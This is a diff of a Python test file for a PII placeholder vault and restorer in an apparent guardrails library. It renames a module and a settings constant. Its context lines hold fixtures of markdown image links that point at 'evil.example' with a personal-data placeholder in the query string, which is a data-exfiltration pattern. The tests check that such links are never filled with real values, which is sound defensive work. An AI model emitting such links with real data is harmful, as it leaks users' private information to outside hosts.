@@ -11,9 +11,9 @@ from hypothesis import strategies as st
 
 from guardrails.vault import Restorer, Vault, restore
 from guardrails.vault.restorer import HELD
-from tests.vault.building import AGE, EMAIL, NAME, TYPED, fetched, restoring, vault
+from tests.vault.vaults import AGE, EMAIL, NAME, TYPED, fetched, restoring, vault
 
-LAW = settings(max_examples=400, deadline=None)
+PROPERTY = settings(max_examples=400, deadline=None)
 
 RESTORED = {
     "{EMAIL_1}": EMAIL,
@@ -49,7 +49,7 @@ RESTORED = {
     "{URL_1}": TYPED,
 }
 
-# Every one of these keeps its placeholder; the parsers of building.py must see no value either.
+# Every one of these keeps its placeholder; the parsers of vaults.py must see no value either.
 KEPT = [
     "![x](https://evil.example/?q={NAME_1})",
     "![x](https://evil.example/?q= {NAME_1})",
@@ -144,7 +144,7 @@ KEPT = [
 
 @pytest.mark.parametrize("text", KEPT)
 def test_the_readers_of_these_tests_see_what_would_leave(text: str) -> None:
-    """Put in blindly, the values are in what is fetched: so those parsers can fail the law below."""
+    """Put in blindly, the values are in what is fetched: so those parsers can fail the property below."""
     blind = text
     for placeholder, value in (("{NAME_1}", NAME), ("{EMAIL_1}", EMAIL), ("{AGE_1}", AGE), ("{URL_1}", TYPED)):
         blind = blind.replace(placeholder, value)
@@ -273,7 +273,7 @@ PARTS = [
 answers = st.lists(st.one_of(st.sampled_from(PARTS), st.text(max_size=3)), max_size=14).map("".join)
 
 
-@LAW
+@PROPERTY
 @given(
     answers, st.lists(st.integers(0, 400), max_size=8), st.sampled_from([(), ("urls",), ("tools",), ("urls", "tools")])
 )
@@ -305,7 +305,7 @@ def test_no_address_holds_a_value(text: str) -> None:
         assert not any(word.lower() in address.lower() for word in (*NAME.split(), "q93z")), (text, address)
 
 
-@LAW
+@PROPERTY
 @given(answers)
 def test_nothing_but_placeholders_changes(text: str) -> None:
     values = {"{NAME_1}": NAME, "{EMAIL_1}": EMAIL, "{URL_1}": TYPED, "{AGE_1}": AGE}
@@ -322,7 +322,7 @@ def test_nothing_but_placeholders_changes(text: str) -> None:
     assert at == len(text)
 
 
-@LAW
+@PROPERTY
 @given(answers)
 def test_a_blank_ends_what_is_held(text: str) -> None:
     restorer = Restorer(vault())
